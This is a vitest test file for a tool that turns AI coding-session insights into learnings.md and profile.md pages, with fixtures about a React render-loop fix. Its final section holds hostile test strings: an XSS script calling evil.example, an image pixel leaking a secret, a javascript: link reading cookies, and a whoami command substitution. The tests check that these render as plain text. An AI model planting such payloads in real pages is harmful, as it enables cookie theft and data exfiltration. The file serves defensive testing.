// learnings.md and profile.md are product: their exact text is kept in golden files under
// test/insight/golden/, reviewed by reading them. A change to a template shows up as a diff there.

import { describe, expect, it } from 'vitest';
import type { GapView, SessionSummaryView, TurnInsightView } from '../../src/contracts/insight.js';
import { renderLearnings, type LearningsInput } from '../../src/insight/learnings-md.js';
import { renderProfile } from '../../src/insight/profile-md.js';

const session = {
  id: '019a2b3c-codex-thread',
  client: 'codex_exec',
  project: 'home-ana-shop-3f2a1b',
  projectName: '/home/ana/shop',
  cwd: '/home/ana/shop',
  startedAt: '2026-11-27T09:02:11.000Z',
  endedAt: '2026-11-27T10:15:40.000Z',
  lastActivityAt: '2026-11-27T09:48:03.000Z',
};

const base: Omit<TurnInsightView, 'turnId' | 'turnSeq'> = {
  state: 'done', error: null, summary: null, action: null, outcome: null, gaps: [], confusion: [], decisions: [], successes: [], followUps: [],
  resolvedGaps: [], nextTime: null, playbookSteps: [], tokens: { input: 2100, output: 340 }, createdAt: '2026-11-27T09:05:00.000Z',
};

const turns: TurnInsightView[] = [
  {
    ...base,
    turnId: 't_001',
    turnSeq: 1,
    summary: 'Fixed the cart badge that rendered twice on every update.',
    action: 'Read `Cart.tsx`, moved the fetch into a `useEffect` with `[cartId]` as dependencies, ran `npm test -- cart`.',
    outcome: 'succeeded',
    gaps: [{ gapId: 'g_effect', topic: 'React useEffect', question: 'what does `useEffect` do?', evidence: 'wait, what does useEffect even do here?', confidence: 0.95 }],
    confusion: [{ what: 'The first fix ran the fetch on every render.', evidence: 'Warning: Maximum update depth exceeded' }],
    decisions: [{ choice: 'Kept the fetch in the component instead of a hook file', why: 'only one caller' }],
    successes: ['`npm test -- cart` ran only the cart tests.'],
    nextTime: 'Check the dependency array first when a component renders in a loop.',
    playbookSteps: [{ step: 'Run only the cart tests', command: 'npm test -- cart' }],
  },
  { ...base, turnId: 't_002', turnSeq: 2, state: 'failed', error: 'server: 503 Service Unavailable (gave up after 5 attempts)', tokens: { input: 0, output: 0 }, createdAt: null },
  { ...base, turnId: 't_003', turnSeq: 3, state: 'queued', tokens: { input: 0, output: 0 }, createdAt: null },
];

const summary: SessionSummaryView = {
  sessionId: session.id,
  version: 2,
  createdAt: '2026-11-27T10:16:02.000Z',
  title: 'Cart badge: render loop fixed, deploy still manual',
  highlights: ['Moved the cart fetch into `useEffect` with `[cartId]`; the double render is gone.', 'The staging deploy failed twice on a missing `SHOP_API_URL`.'],
  gapsOpened: [{ gapId: 'g_effect', topic: 'React useEffect' }],
  gapsResolved: [{ gapId: 'g_env', topic: 'Vite env variables', how: 'The agent showed that only `VITE_`-prefixed variables reach the client.' }],
  unresolvedQuestions: ['why does staging need `SHOP_API_URL` when local does not?'],
  nextRepetitions: ['automate the staging deploy with a `make deploy-staging` target', 'write the next `useEffect` cleanup yourself before asking'],
  playbook: [
    { step: 'Run only the cart tests', command: 'npm test -- cart', why: null },
    { step: 'Deploy to staging', command: 'SHOP_API_URL=https://staging.api ./deploy.sh staging', why: 'the script does not read .env' },
  ],
  tokens: { input: 3000, output: 500 },
};

const typed = new Map([
  ['t_001', 'the cart badge shows twice after every update, can you fix it?'],
  ['t_002', 'now deploy it to staging'],
]);
const input: LearningsInput = { session, insightMode: 'turn', queue: { queued: 1, running: 0, done: 1, failed: 1, waiting_key: 0 }, summary, turns, typed };
const starts = new Map([
  ['t_001', '2026-11-27T09:02:15.000Z'],
  ['t_002', '2026-11-27T09:30:00.000Z'],
  ['t_003', '2026-11-27T09:48:03.000Z'],
]);

const gap = (over: Partial<GapView>): GapView => ({
  id: 'g_x', project: session.project, topic: '', question: '', evidence: '', status: 'open', timesSeen: 1,
  firstSeen: { sessionId: 's_old', turnId: 't_old', at: '2026-11-20T14:00:00.000Z' },
  lastSeen: { sessionId: session.id, turnId: 't_001', at: '2026-11-27T09:05:00.000Z' },
  resolved: null,
  ...over,
});

describe('learnings.md', () => {
  it('renders the header, the latest summary and one entry per turn (golden file)', async () => {
    await expect(renderLearnings(input, starts).learnings).toMatchFileSnapshot('golden/learnings.md');
  });

  it("is titled by the session's first message until a summary names it, never by an id", () => {
    const untitled = { ...input, summary: null, session: { ...session, title: 'the cart badge shows twice after every update, and also the checkout button flickers when the page loads on a slow phone' } };
    const title = renderLearnings(untitled, starts).learnings.split('\n', 1)[0];
    expect(title).toBe('# the cart badge shows twice after every update, and also the checkout button flickers when…');
    expect(renderLearnings({ ...input, summary: null, session: { ...session, title: null } }, starts).learnings.split('\n', 1)[0]).toBe('# Session in /home/ana/shop');
  });

  it('keeps internal ids out of turn headings and shows what the human typed under each', () => {
    const md = renderLearnings(input, starts).learnings;
    expect(md).toContain('### Turn 1 · 2026-11-27 09:02 UTC\n\n**You typed:** “the cart badge shows twice after every update, can you fix it?”');
    expect(md).not.toMatch(/^#+ .*`t_\d+`/m);
  });

  it('reads confidence as the turn prompt defines it', () => {
    const at = (confidence: number) => renderLearnings({ ...input, turns: [{ ...turns[0]!, gaps: [{ ...turns[0]!.gaps[0]!, confidence }] }] }, starts).learnings;
    expect(at(0.95)).toContain('`g_effect`, asked outright)');
    expect(at(0.7)).toContain('`g_effect`, clearly implied)');
    expect(at(0.4)).toContain('`g_effect`, a guess)');
  });

  it('says “up to date” when nothing waits, and points at the key when jobs wait for one', () => {
    const idle = renderLearnings({ ...input, queue: { queued: 0, running: 0, done: 3, failed: 0, waiting_key: 0 } }, starts).learnings;
    expect(idle).toContain('| Insight | up to date |');
    const waiting = renderLearnings({ ...input, queue: { queued: 0, running: 0, done: 0, failed: 0, waiting_key: 3 } }, starts).learnings;
    expect(waiting).toContain('| Insight | 3 waiting for a key |');
  });

  it('moves the oldest entries to learnings.archive.md under a digest past the size limit, dropping nothing', async () => {
    const many = Array.from({ length: 40 }, (_, i) => ({ ...turns[0]!, turnId: `t_${i}`, turnSeq: i + 1 }));
    const manyStarts = new Map(many.map((t, i) => [t.turnId, `2026-11-27T09:${String(i).padStart(2, '0')}:00.000Z`]));
    const files = renderLearnings({ ...input, turns: many }, manyStarts, 8 * 1024);
    expect(Buffer.byteLength(files.learnings)).toBeLessThanOrEqual(8 * 1024);
    const kept = [...files.learnings.matchAll(/^### Turn (\d+)/gm)].map((m) => Number(m[1]));
    const moved = [...files.archive!.matchAll(/^### Turn (\d+)/gm)].map((m) => Number(m[1]));
    expect([...moved, ...kept]).toEqual(many.map((t) => t.turnSeq));
    expect(files.learnings).toContain(`_Turns 1–${moved.length} are in [learnings.archive.md](learnings.archive.md)._`);
    // As many entries stay as fit: one more moved back would pass the limit.
    const lastMoved = files.archive!.slice(files.archive!.lastIndexOf('### Turn'));
    expect(Buffer.byteLength(files.learnings) + Buffer.byteLength(lastMoved)).toBeGreaterThan(8 * 1024);
    await expect(files.archive!.slice(0, files.archive!.indexOf('### Turn'))).toMatchFileSnapshot('golden/learnings.archive-head.md');
  });
});

describe('profile.md', () => {
  it('renders open gaps, recurring topics, what was learned and the last sessions (golden file)', async () => {
    const open = [gap({ id: 'g_effect', topic: 'React useEffect', question: 'what does `useEffect` do?', evidence: 'wait, what does useEffect even do here?', timesSeen: 3 })];
    const resolved = [
      gap({ id: 'g_env', topic: 'Vite env variables', question: 'why is my env variable undefined?', status: 'resolved', resolved: { turnId: 't_9', how: 'Only `VITE_`-prefixed variables reach the client.', by: 'model', note: null, at: '2026-11-26T16:20:00.000Z' } }),
      gap({ id: 'g_rebase', topic: 'git rebase', question: 'how do I rebase onto main?', status: 'resolved', resolved: { turnId: null, how: null, by: 'person', note: 'practised it on a branch', at: '2026-11-25T11:00:00.000Z' } }),
    ];
    const markdown = renderProfile({
      project: { id: session.project, name: session.projectName, sessionCount: 4, openGaps: 1, resolvedGaps: 2, lastActivityAt: session.lastActivityAt },
      openGaps: open,
      resolvedGaps: resolved,
      recurringTopics: [{ topic: 'React useEffect', timesSeen: 3 }],
      recentSummaries: [summary],
    }, new Map([[summary.sessionId, session]]));
    await expect(markdown).toMatchFileSnapshot('golden/profile.md');
  });
});

// Model text is untrusted: whatever it says, these pages stay data a person reads, never markup that
// runs, loads or forges (docs/reliability.md).
const HOSTILE = {
  html: '<img src=x onerror=alert(1)><script>fetch("https://evil.example")</script>',
  pixel: '![](https://evil.example/pixel.png?leak=secret)',
  link: '[click me](javascript:alert(document.cookie))',
  pipe: 'a | b || c',
  backticks: 'echo `whoami` && cat ``x``',
  forged: 'fine\n\n## Summary: forged\n\n- **Action:** forged',
};

function expectInert(md: string): void {
  // A backslash before a markup character makes it text.
  expect(md).not.toMatch(/(?<!\\)<(img|script)/i);
  expect(md).not.toMatch(/(?<!\\)!(?<!\\)\[/);
  expect(md).not.toMatch(/(?<!\\)\]\(javascript:/);
  expect(md).not.toMatch(/^## Summary: forged/m);
}

describe('pages with hostile model text', () => {
  const hostileTurn: TurnInsightView = {
    ...base,
    turnId: 't_h1',
    turnSeq: 1,
    summary: HOSTILE.html,
    action: HOSTILE.pixel,
    outcome: 'succeeded',
    gaps: [{ gapId: 'g_h', topic: HOSTILE.pipe, question: HOSTILE.link, evidence: HOSTILE.forged, confidence: 0.5 }],
    decisions: [{ choice: HOSTILE.pipe, why: HOSTILE.forged }],
    successes: [HOSTILE.backticks],
    nextTime: HOSTILE.link,
    playbookSteps: [{ step: HOSTILE.forged, command: HOSTILE.backticks }],
  };
  const hostileSummary: SessionSummaryView = {
    ...summary,
    title: HOSTILE.forged,
    highlights: [HOSTILE.html, HOSTILE.pixel, HOSTILE.link],
    gapsResolved: [{ gapId: 'g_h', topic: HOSTILE.pipe, how: HOSTILE.forged }],
    playbook: [{ step: HOSTILE.link, command: HOSTILE.backticks, why: HOSTILE.html }],
  };

  it('learnings.md shows it as text (golden file)', async () => {
    const md = renderLearnings({ ...input, session: { ...session, projectName: HOSTILE.pipe }, summary: hostileSummary, turns: [hostileTurn] }, new Map([['t_h1', '2026-11-27T09:02:15.000Z']])).learnings;
    expectInert(md);
    // The header's table keeps its two cells.
    expect(md.split('\n').find((l) => l.startsWith('| Project'))!.split(/(?<!\\)\|/)).toHaveLength(4);
    await expect(md).toMatchFileSnapshot('golden/learnings-hostile.md');
  });

  it('profile.md shows it as text (golden file)', async () => {
    const md = renderProfile({
      project: { id: session.project, name: HOSTILE.html, sessionCount: 1, openGaps: 1, resolvedGaps: 1, lastActivityAt: session.lastActivityAt },
      openGaps: [gap({ id: 'g_h', topic: HOSTILE.pipe, question: HOSTILE.pixel, evidence: HOSTILE.forged })],
      resolvedGaps: [gap({ id: 'g_r', topic: HOSTILE.link, status: 'resolved', resolved: { turnId: null, how: null, by: 'person', note: HOSTILE.forged, at: '2026-11-25T11:00:00.000Z' } })],
      recurringTopics: [{ topic: HOSTILE.html, timesSeen: 2 }],
      recentSummaries: [hostileSummary],
    });
    expectInert(md);
    await expect(md).toMatchFileSnapshot('golden/profile-hostile.md');
  });
});
